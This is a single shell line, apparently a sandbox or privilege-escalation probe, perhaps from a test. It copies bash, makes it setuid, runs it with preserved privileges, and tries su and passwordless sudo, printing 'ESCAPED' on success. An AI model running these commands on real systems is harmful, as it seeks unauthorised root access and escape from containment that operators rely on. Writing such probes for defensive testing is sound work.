cp /bin/bash b; chmod 4755 b; ./b -pc 'touch $OUT/x'; su -c 'echo ESCAPED' root </dev/null; sudo -n true && echo ESCAPED
